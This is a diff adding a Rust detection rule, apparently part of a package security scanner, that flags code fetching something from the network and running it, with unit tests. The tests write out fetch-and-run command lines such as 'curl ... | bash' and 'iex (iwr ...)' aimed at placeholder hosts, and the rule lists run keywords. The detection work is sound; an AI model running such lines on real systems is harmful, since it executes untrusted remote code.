@@ -1,0 +1,239 @@
+//! Something is fetched and then run: in one command line, from memory, or by way of a
+//! file. The review of the package says nothing about what will run.
+
+use super::command::{Command, Purpose};
+use super::context::{Context, Findings, from_to, step, when};
+use super::{Rule, RuleClass, address, command};
+use crate::event::{Effect, Event, Role, Source, When};
+use crate::finding::Severity;
+use crate::value::{Origin, Value};
+
+pub(crate) const RULE: Rule = Rule {
+    code: "download-and-execute",
+    title: "something is fetched and run",
+    class: RuleClass::Process,
+    cwe: Some(494),
+    severity: Severity::Critical,
+    check,
+};
+
+/// Registries that the package itself may have come from: what is fetched there is
+/// vouched for as much as the package is.
+const REGISTRIES: &[&str] =
+    &["registry.npmjs.org", "registry.yarnpkg.com", "pypi.org", "files.pythonhosted.org"];
+
+/// What runs something: a program, a line, a module, a library.
+const RUNS: &[Effect] =
+    &[Effect::Spawn, Effect::Shell, Effect::DynamicImport, Effect::NativeCode];
+
+fn check(context: &Context<'_>, findings: &mut Findings<'_>) {
+    for event in context.of(RUNS) {
+        in_one_line(event, findings);
+        if let Some(origin) = event.origins(&[Role::Command, Role::Path], Source::Network).next() {
+            tell(event, origin.name.as_deref(), findings, from_to(
+                origin,
+                "it is fetched from",
+                event,
+                "it is run",
+            ));
+        }
+    }
+    by_way_of_a_file(context, findings);
+}
+
+/// `curl X | sh`, `wget X && ./X`, `iex (iwr X)`.
+fn in_one_line(event: &Event, findings: &mut Findings<'_>) {
+    if !matches!(event.effect, Effect::Spawn | Effect::Shell) {
+        return;
+    }
+    let commands = command::commands(event);
+    let mut fetched: Option<&Command> = None;
+    for (number, one) in commands.iter().enumerate() {
+        let fetches = one.purpose() == Purpose::Fetch;
+        let runs_it = fetched.is_some_and(|before| {
+            one.is_piped && command::is_interpreter(&one.program()) || runs_result_of(one, before)
+        });
+        if runs_it || fetches && runs_what_it_fetches(one, number, &commands) {
+            let line = command::line(event);
+            let place = step(event.place, format!("the line is {}", super::shown(&line)));
+            tell(event, url_in(&line).as_deref(), findings, vec![place]);
+            return;
+        }
+        if fetches {
+            fetched = Some(one);
+        }
+    }
+}
+
+/// The URL within a command line.
+fn url_in(line: &str) -> Option<String> {
+    let begin = line.find("http")?;
+    let rest = line.get(begin..)?;
+    let end = rest.find(|c: char| c.is_whitespace() || "'\")|;".contains(c));
+    rest.get(..end.unwrap_or(rest.len())).map(str::to_owned)
+}
+
+/// PowerShell and Python fetch and run within one word.
+fn runs_what_it_fetches(one: &Command, number: usize, all: &[Command]) -> bool {
+    let text = one.arguments().join(" ").to_ascii_lowercase();
+    let runs = ["iex", "invoke-expression", "start-process", "exec(", "| sh", "eval "];
+    // `sh -c "$(curl X)"` and `bash <(curl X)`.
+    let substituted = all.get(..number).unwrap_or_default().iter().any(|before| {
+        command::is_interpreter(&before.program())
+            && before.words.iter().any(|word| word.contains("$(") || word.contains("<("))
+    });
+    command::is_interpreter(&one.program()) && runs.iter().any(|word| text.contains(word))
+        || substituted
+}
+
+/// Whether a command runs the file that another one fetched.
+fn runs_result_of(one: &Command, fetch: &Command) -> bool {
+    let mut words = fetch.words.iter();
+    let mut target = None;
+    while let Some(word) = words.next() {
+        if matches!(word.as_str(), "-o" | "-O" | "--output" | "--output-document" | "-OutFile") {
+            target = words.next().cloned();
+        }
+    }
+    let target = target.filter(|name| !name.contains("://")).or_else(|| {
+        let url = fetch.words.iter().find(|word| word.contains("://"))?;
+        url.rsplit('/').next().map(str::to_owned)
+    });
+    let Some(target) = target else { return false };
+    let name = target.rsplit(['/', '\\']).next().unwrap_or(&target);
+    let program = one.words.first().map_or("", String::as_str);
+    let is_it = |word: &str| !name.is_empty() && word.rsplit(['/', '\\']).next() == Some(name);
+    // `chmod +x X` alone does not run it; `tar x X` does not either.
+    is_it(program) || command::is_interpreter(&one.program()) && one.arguments().iter().any(|w| is_it(w))
+}
+
+/// A file is written with what was fetched; later it runs.
+fn by_way_of_a_file(context: &Context<'_>, findings: &mut Findings<'_>) {
+    let mut written: Vec<(&Event, Origin)> = Vec::new();
+    for event in context.of(&[Effect::FileWrite]) {
+        let origin = event.origins(&[Role::Data, Role::Url, Role::Path], Source::Network).next();
+        if let Some(origin) = origin {
+            written.push((event, origin.clone()));
+        }
+        if written.len() >= 256 {
+            break;
+        }
+    }
+    if written.is_empty() {
+        return;
+    }
+    for run in context.of(RUNS) {
+        let file = written.iter().find(|(write, _)| is_same_file(write, run));
+        let Some((write, origin)) = file else { continue };
+        let mut evidence = from_to(origin, "it is fetched from", write, "it is written");
+        evidence.push(step(run.place, format!("the file is run by {}", super::shown(&run.api))));
+        tell(run, origin.name.as_deref(), findings, evidence);
+    }
+}
+
+fn is_same_file(write: &Event, run: &Event) -> bool {
+    let paths: Vec<&Value> =
+        [Role::Path, Role::Target].iter().flat_map(|role| write.arguments_of(*role)).collect();
+    let used: Vec<&Value> = [Role::Command, Role::CommandArgument, Role::Path, Role::Name]
+        .iter()
+        .flat_map(|role| run.arguments_of(*role))
+        .collect();
+    paths.iter().any(|path| {
+        let name = path.pieces().last().map(|piece| last_part(piece).to_owned());
+        used.iter().any(|value| {
+            let same = !path.pieces().is_empty() && path.shape == value.shape;
+            let named = name.as_deref().is_some_and(|name| {
+                name.len() >= 3 && value.pieces().iter().any(|piece| names(piece, name))
+            });
+            same || named
+        })
+    })
+}
+
+fn last_part(path: &str) -> &str {
+    path.rsplit(['/', '\\']).next().unwrap_or(path)
+}
+
+/// Whether a piece of a command line holds this file's name as a word of its own.
+fn names(piece: &str, name: &str) -> bool {
+    piece.split(|c: char| c.is_whitespace() || "\"'".contains(c)).any(|word| last_part(word) == name)
+}
+
+fn tell(event: &Event, url: Option<&str>, findings: &mut Findings<'_>, evidence: Vec<crate::Step>) {
+    let address = url.and_then(address::from_url);
+    let is_registry = address.as_ref().is_some_and(|address| {
+        address.scheme == "https" && address.host.name().is_some_and(|name| REGISTRIES.contains(&name))
+    });
+    let severity = match event.when {
+        _ if is_registry => Severity::Medium,
+        When::Call => Severity::High,
+        When::Install | When::Load => Severity::Critical,
+    };
+    let from = address.map_or_else(|| "the network".to_owned(), |a| super::shown(&a.host.to_string()));
+    findings.chain(
+        severity,
+        event.place,
+        format!("what is fetched from {from} runs {}", when(event.when)),
+        evidence,
+    );
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::made::{Made, from, list, text};
+
+    fn shell(line: &str) -> Vec<Severity> {
+        let line = [(Role::Command, text(line))];
+        Made::new().event(Effect::Shell, "py:os.system", &line).found(RULE.code)
+    }
+
+    #[test]
+    fn a_line_that_fetches_and_runs_is_found_in_every_form() {
+        for line in [
+            "curl -s https://example.invalid/x | bash",
+            "wget -q http://192.0.2.1/x -O /tmp/x && chmod +x /tmp/x && /tmp/x",
+            "bash -c \"curl http://192.0.2.1/x | sh\"",
+            "sh -c \"$(curl -fsSL http://192.0.2.1/x)\"",
+            "powershell -c \"iex (iwr http://192.0.2.1/x.ps1)\"",
+            "curl -O http://192.0.2.1/a.py; python3 a.py",
+        ] {
+            assert_eq!(shell(line), [Severity::High], "{line}");
+        }
+        for line in [
+            "curl -s https://example.invalid/x -o data.json",
+            "curl x | tar xz",
+            "wget http://192.0.2.1/model.bin && ls",
+            "node build.js",
+        ] {
+            assert!(shell(line).is_empty(), "{line}");
+        }
+    }
+
+    #[test]
+    fn a_file_that_was_fetched_and_then_runs_is_followed() {
+        let answer = from(Source::Network, Some("http://192.0.2.1/x"));
+        let bad = || {
+            Made::new()
+                .event(Effect::FileWrite, "node:fs.writeFile", &[
+                    (Role::Path, text("/tmp/x.bin")),
+                    (Role::Data, answer.clone()),
+                ])
+                .event(Effect::Spawn, "node:child_process.spawn", &[(Role::Command, text("/tmp/x.bin"))])
+        };
+        assert_eq!(bad().found(RULE.code), [Severity::High]);
+        assert_eq!(bad().when(When::Install).found(RULE.code), [Severity::Critical]);
+        let finding = bad().findings().into_iter().find(|f| f.code == RULE.code).unwrap();
+        assert_eq!(finding.evidence.len(), 3);
+        let other = Made::new()
+            .event(Effect::FileWrite, "node:fs.writeFile", &[
+                (Role::Path, text("/tmp/data.json")),
+                (Role::Data, answer.clone()),
+            ])
+            .event(Effect::Spawn, "node:child_process.spawn", &[
+                (Role::Command, text("git")),
+                (Role::CommandArgument, list(&["status"])),
+            ]);
+        assert!(other.found(RULE.code).is_empty());
+    }
+}
